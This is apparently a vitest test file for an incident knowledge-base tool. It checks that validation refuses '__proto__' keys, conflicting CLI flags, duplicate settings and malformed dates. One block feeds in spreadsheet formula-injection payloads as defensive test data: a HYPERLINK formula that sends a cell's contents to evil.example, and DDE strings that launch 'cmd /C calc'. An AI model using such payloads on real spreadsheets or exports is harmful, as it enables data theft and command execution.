// Bad input, round 33 (docs/rules.md, "Bad input round 33"): the inputs of the round that were
// passed over, dropped or said unclearly before. Each test of a change asserts what the commit
// before did not do; the controls, what was right before and still is. In-process only; the one
// command started is in test/cli/bad-input-round33.test.ts.
import { describe, expect, test } from 'vitest';
import { parseComplianceConfig } from '../../src/lib/compliance-config.ts';
import { checkOptionsProblem } from '../../src/lib/check-options.ts';
import { PublicVariantError, stripInternalFromSource } from '../../src/lib/strip-internal.ts';
import { duplicateSettings } from '../../src/lib/settings-duplicate-keys.ts';
import { KbConfigError, loadKbConfig } from '../../src/lib/kb-config.ts';
import { readFileSync } from 'node:fs';
import { findSpreadsheetFormulas } from '../../src/lib/spreadsheet-formula.ts';
import { dayOptionAdvice } from '../../src/lib/instant-advice.ts';
import { errorsAfterEditingGoodInput, replacing } from '../support/content-fixture.ts';
import { resolve } from 'node:path';

const regime = (id: string, deadline = '{ id: a, name: Early warning, hours: 24, notification: earlyWarning }') =>
  `regimes:\n  ${id}:\n    name: NIS2 Article 23\n    reference: Directive (EU) 2022/2555\n    appliesByDefault: never\n    deadlines:\n      - ${deadline}\n`;
const complianceRefusal = (source: string) => {
  try {
    parseComplianceConfig(source, 'content/compliance.yaml');
  } catch (error) {
    return (error as Error).message;
  }
  return undefined;
};

describe('compliance.yaml: a key named __proto__ (before: the regime dropped in silence, status 0)', () => {
  test('a regime named __proto__ is refused, with the id to write', () => {
    expect(complianceRefusal(regime('__proto__'))).toBe('content/compliance.yaml: regimes.__proto__: the regime id "__proto__" must be lowercase letters, digits and hyphens, and the settings cannot hold a regime so named: it would be left out, its deadlines never shown. Fix: rename it to "proto", or to the regime\'s own name (and in the postmortems\' security.regimes).');
  });
  test('the same file with the regime named nis2 is read, the regime kept (control)', () => {
    expect(parseComplianceConfig(regime('nis2')).regimes.map((r) => r.id)).toEqual(['gdpr-art33', 'nis2']);
  });
  test.each([
    ['at the top of the file', `__proto__:\n  timeZone: UTC\n${regime('nis2')}`, 'the file has the unknown setting "__proto__"'],
    ['in a deadline', regime('nis2', '{ __proto__: x, id: a, name: Early warning, hours: 24, notification: earlyWarning }'), 'regimes.nis2.deadlines.0 has the unknown setting "__proto__"'],
    ['in an annual review', `${regime('nis2')}annualReviews:\n  - { date: 2025-01-01, scope: Process, __proto__: x }\n`, 'annualReviews.0 has the unknown setting "__proto__"'],
  ])('__proto__ %s is an unknown setting, as it was (controls)', (_, source, words) => {
    expect(complianceRefusal(source)).toContain(words);
  });
});

describe('npm run check -- --rules --public-report (before: the rules listed, the report passed over, status 0)', () => {
  test('refused, saying how to get each', () => {
    expect(checkOptionsProblem({ format: 'text', rules: true, publicReport: true }, [])).toBe('--rules lists the lint rules and checks no post, so --public-report would print nothing: run npm run check -- --public-report for the report, and npm run check -- --rules on its own for the rules.');
  });
  test('each alone is no problem (control)', () => {
    expect(checkOptionsProblem({ format: 'text', rules: true }, [])).toBeUndefined();
    expect(checkOptionsProblem({ format: 'text', publicReport: true }, [])).toBeUndefined();
  });
});

describe('<Internal> in an image\'s alt text or a title of a public post (before: "in code, or where the parser saw no component")', () => {
  const refusal = (body: string) => {
    try {
      stripInternalFromSource(`---\ntitle: x\n---\n\nThe pool was restored.\n\n${body}\n`, { isMdx: true, variant: 'public', file: 'post.mdx' });
    } catch (error) {
      expect(error).toBeInstanceOf(PublicVariantError);
      return (error as Error).message;
    }
    return undefined;
  };
  test.each([
    ['an image\'s alt text', '![<Internal>orion-db</Internal> pool graph](https://example.com/pool.png)', 'an image\'s alt text'],
    ['an image\'s title', '![pool graph](https://example.com/pool.png "<Internal>orion-db</Internal>")', 'the title of an image (the text in quotes after its address)'],
    ['a link\'s title', '[pool graph](https://example.com/pool "<Internal>orion-db</Internal>")', 'the title of a link (the text in quotes after its address)'],
    ['a reference\'s title', '[pool graph][g]\n\n[g]: https://example.com/pool "<Internal>orion-db</Internal>"', 'the title of a link reference (the text in quotes after its address)', 9],
    ['an image reference\'s alt text', '![<Internal>orion-db</Internal>][g]\n\n[g]: https://example.com/pool.png', 'an image\'s alt text'],
  ])('%s is named, with what to write', (_, body, place, line = 7) => {
    expect(refusal(body)).toBe(`post.mdx:${line}: an <Internal> tag in ${place}, which is plain text to MDX: no component works there, so nothing of it is cut, and the public build refuses it rather than publish what it holds. Fix: write that text without the internal part, or put the whole image or link inside <Internal> on lines of their own.`);
  });
  test('in a code span the message stays the one for code, and a link\'s text is cut (controls)', () => {
    expect(refusal('Use `<Internal>` to hide it.')).toMatch(/^post\.mdx:7: an <Internal> tag is left after the <Internal> blocks were cut \(in code,/);
    expect(refusal('[the <Internal>orion-db</Internal> graph](https://example.com/pool)')).toBeUndefined();
  });
});

describe('site.config.ts: an option written twice (before: the first dropped without a word, status 0)', () => {
  const projectSettings = readFileSync(resolve(import.meta.dirname, '../../site.config.ts'), 'utf8');
  const edited = (from: string, to: string) => {
    if (!projectSettings.includes(from)) throw new Error(`site.config.ts has no ${from}`);
    return projectSettings.replace(from, to);
  };
  const lineOf = (text: string, written: string) => text.slice(0, text.indexOf(written)).split('\n').length;
  test('a second internalNames under the list of names (the names were published) is refused at both lines', () => {
    const text = edited('    internalNames: [],', "    internalNames: ['orion-db', 'ledger-7'],\n    internalNames: [],");
    const first = lineOf(text, "    internalNames: ['orion-db'");
    expect(duplicateSettings(text)).toEqual([{ path: 'redaction.internalNames', line: first + 1, firstLine: first }]);
    const minimal = { organisation: 'Acme', sites: { internal: { title: 'Acme KB', url: 'https://incidents.acme.internal' }, public: { title: 'Acme History', url: 'https://status.acme.example' } } };
    expect(() => loadKbConfig(minimal, {}, { fileExists: () => false, sourceText: text })).toThrow(KbConfigError);
    expect(() => loadKbConfig(minimal, {}, { fileExists: () => false, sourceText: text })).toThrow(`redaction.internalNames is written twice in site.config.ts (lines ${first} and ${first + 1}): JavaScript keeps the second and drops the first without a word, so what line ${first} sets is not used. Keep one redaction.internalNames, with the values of both if both are meant.`);
  });
  test.each([
    ['organisation at the top', "  organisation: 'Acme',", "  organisation: 'Acme',\n  organisation: 'Acme Corp',", 'organisation'],
    ['a quoted key beside a bare one', '    publicNames: [],', "    publicNames: [],\n    'publicNames': ['Acme Pay'],", 'redaction.publicNames'],
    ['a lint rule in other quotes', "      'action-item/vague': 'warning',", "      'action-item/vague': 'warning',\n      \"action-item/vague\": 'error',", 'lint.rules["action-item/vague"]'],
    ['a whole section', '  lint: {', "  sites: { internal: { title: 'x', url: 'y' } },\n  lint: {", 'sites'],
  ])('%s', (_, from, to, path) => {
    expect(duplicateSettings(edited(from, to)).map((d) => d.path)).toEqual([path]);
  });
  test('the project\'s own settings, comments and strings holding "key:" and a key of the same name at two levels are no duplicate (controls)', () => {
    expect(duplicateSettings(projectSettings)).toEqual([]);
    expect(duplicateSettings(edited('    internalNames: [],', "    internalNames: ['a: b', \"c, d:\"], // people: x, internalNames: y\n    /* publicNames: [] */"))).toEqual([]);
    expect(duplicateSettings("const settings: X = { title: 'a', sites: { public: { title: 'b' }, internal: { title: 'c' } } };")).toEqual([]);
  });
});

describe('frontmatter text a spreadsheet runs as a formula (before: passed, and went as written into the evidence pack\'s and the trackers\' CSV files)', () => {
  test.each([
    ['an action item\'s title, a link sending the sheet away', '    title: Validate pool sizes in CI', '    title: \'=HYPERLINK("https://evil.example/?"&A1,"Validate pool sizes")\'', 'actionItems[0].title', 31],
    ['a verification, a command through DDE', '    verification: CI rejects a pool of 8.', '    verification: \'@SUM(1+1)*cmd|" /C calc"!A0\'', 'actionItems[0].verification', 37],
    ['a summary starting with a sum', 'summary: A configuration push', 'summary: =1+1 A configuration push', 'summary', 3],
    ['a timeline event, a minus before a pipe', '    event: Config reverted.', '    event: "-2+3+cmd|\' /C calc\'!A0"', 'timeline[1].event', 27],
  ])('%s is an error at its line', (_, from, to, field, line) => {
    const errors = errorsAfterEditingGoodInput(replacing(from, to)).filter((f) => f.message.includes('a spreadsheet runs as a formula'));
    expect(errors.map((f) => [f.rule, f.field, f.line])).toEqual([['schema/plain-text', field, line]]);
    expect(errors[0].fix).toBe(`start ${field} with a word that says what follows (e.g. "The formula …"), or put the formula in the body, in a code span.`);
  });
  test('text that only starts with a sign, and team handles, pass (controls)', () => {
    expect(findSpreadsheetFormulas({ title: '-5% error budget left', summary: '+1 retry per request (capped)', event: '--dry-run was ignored', reviewers: ['@acme/checkout'], verification: 'A = B after the fix' })).toEqual([]);
    expect(errorsAfterEditingGoodInput(replacing('    event: Config reverted.', '    event: "-5% of requests failed (10 minutes)"'))).toEqual([]);
  });
});

describe('a day option given a time, spaces or one-digit parts (before: the format, and no day to give)', () => {
  const since = (text: string) => dayOptionAdvice(text, (day) => `--since ${day}`);
  test.each([
    ['2026-01-01T00:00:00Z', ' The option takes a day, without its time of day: give --since 2026-01-01.'],
    ['2026-01-01 10:00', ' The option takes a day, without its time of day: give --since 2026-01-01.'],
    [' 2026-01-01', ' It has spaces around the day (a quoted or pasted value?): give --since 2026-01-01.'],
    ['2026-1-1', ' The month and the day take two digits each: give --since 2026-01-01.'],
  ])('%j', (text, advice) => {
    expect(since(text)).toBe(advice);
  });
  test('a day the calendar lacks and a day in two readings are said as before (controls)', () => {
    expect(since('2026-13-01')).toMatch(/^ 2026-13-01 is no day: there is no month 13/);
    expect(since('01/02/2026')).toBe(' 01/02/2026 can be read two ways: write 2026-01-02 if the month comes first (US order), 2026-02-01 if the day does.');
    expect(since('2026-01-01')).toBe('');
  });
});
